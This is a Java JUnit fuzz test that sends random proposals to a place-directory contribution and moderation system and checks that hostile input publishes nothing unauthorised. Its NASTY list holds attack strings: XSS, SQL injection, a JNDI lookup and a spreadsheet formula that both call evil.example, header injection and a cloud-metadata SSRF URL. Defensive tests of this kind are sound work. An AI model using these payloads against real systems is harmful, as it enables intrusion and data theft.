package org.jalon.contribution;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumMap;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.jalon.account.Role;
import org.jalon.directory.Facts;
import org.jalon.directory.Field;
import org.jalon.directory.Place;
import org.jalon.directory.PlaceId;
import org.jalon.storage.Database;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/** A heap of proposals as the network sends them: honest ones, garbage, and attempts to break in. */
class HostileProposalsTest extends ContributionSite {

    private static final int MANY = 600;

    private static final List<String> NASTY = List.of(
            "<script>alert(1)</script>",
            "'; drop table place; --",
            "\"><img src=x onerror=alert(1)>",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "\u202Etxt.exe\u202C",
            "a\u0000b",
            "\uD800",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "\r\nBcc: all@example.org",
            "x".repeat(200_000),
            "Mo-Su 00:00-24:00; ".repeat(90),
            "💥".repeat(70),
            "javascript:alert(1)",
            "http://169.254.169.254/latest/meta-data",
            "not-a-number",
            "90.0001",
            "");

    @Autowired
    private Contributions contributions;

    @Autowired
    private Moderation moderation;

    @Autowired
    private Database database;

    @Test
    void loseNothingAndPublishNothingAgainstTheRules() {
        Random random = new Random(20261122);
        Map<PlaceId, Facts> before = new HashMap<>();
        List<Place> places = new ArrayList<>();
        for (int i = 0; i < 12; i++) {
            Place place = aPlace();
            places.add(place);
            before.put(place.id(), place.facts());
        }
        List<ProposalId> acknowledged = new ArrayList<>();
        for (int i = 0; i < MANY; i++) {
            try {
                if (contributions.submit(any(random, places)) instanceof Submitted.Received received) {
                    acknowledged.add(received.proposal().id());
                }
            } catch (IllegalArgumentException e) {
                assertThat(e).hasMessageMatching("nobody may say.*|a place is in a commune"); // what no form sends
            }
        }

        assertThat(acknowledged).hasSizeGreaterThan(MANY / 20);
        assertThat(acknowledged)
                .allSatisfy(id -> assertThat(moderation.find(actor(Role.MODERATOR, ""), id))
                        .isPresent());
        before.forEach((place, facts) -> assertThat(publishedByNobody(place))
                .as("what nobody decided on")
                .isZero());
        before.forEach(
                (place, facts) -> assertThat(changedFields(facts, now(place).facts()))
                        .as("a slip in the spelling, and its day, is all that strangers publish")
                        .isSubsetOf(Field.NAME, Field.ADDRESS, Field.SUMMARY, Field.UPDATED_ON));
    }

    /** Revisions of people's that no accepted proposal accounts for. */
    private int publishedByNobody(PlaceId place) {
        return directory().history(place).stream()
                .filter(revision -> !revision.decision().startsWith("run:"))
                .filter(revision -> database.jdbc()
                                .sql("select count(*) from proposal where revision = :revision and state = 'ACCEPTED'"
                                        + " and decided_by in ('rule:typo', 'rule:confirmation')")
                                .param("revision", revision.number())
                                .query(Integer.class)
                                .single()
                        == 0)
                .mapToInt(revision -> 1)
                .sum();
    }

    private static List<Field> changedFields(Facts before, Facts after) {
        return Arrays.stream(Field.values())
                .filter(field -> !before.all(field).equals(after.all(field)))
                .toList();
    }

    private Submission any(Random random, List<Place> places) {
        Place place = places.get(random.nextInt(places.size()));
        ProposalKind kind = ProposalKind.values()[random.nextInt(ProposalKind.values().length)];
        Map<Field, List<String>> said = new EnumMap<>(Field.class);
        for (int i = random.nextInt(4); i > 0; i--) {
            Field field = Field.values()[random.nextInt(Field.values().length)];
            said.put(field, random.nextInt(10) < 3 ? List.of(nasty(random)) : plausible(random, place, field));
        }
        String message = random.nextInt(5) == 0 ? nasty(random) : "";
        Submission whole = submission(kind, kind == ProposalKind.ADD ? null : place, said, null, network());
        PlaceId keeper = kind == ProposalKind.DUPLICATE ? places.getFirst().id() : null;
        return new Submission(
                whole.sendingKey(), kind, whole.place(), whole.basedOn(), said, keeper, message, null, whole.sender());
    }

    private static String nasty(Random random) {
        return NASTY.get(random.nextInt(NASTY.size()));
    }

    private static List<String> plausible(Random random, Place place, Field field) {
        List<String> now = place.facts().all(field);
        return switch (field) {
            case HOURS -> List.of("Mo-Fr 0" + (8 + random.nextInt(2)) + ":00-17:00");
            case NAME, ADDRESS -> List.of(now.getFirst().replaceFirst("e", "é"));
            case PHONE -> List.of("+3332000000" + random.nextInt(10));
            default -> now;
        };
    }
}
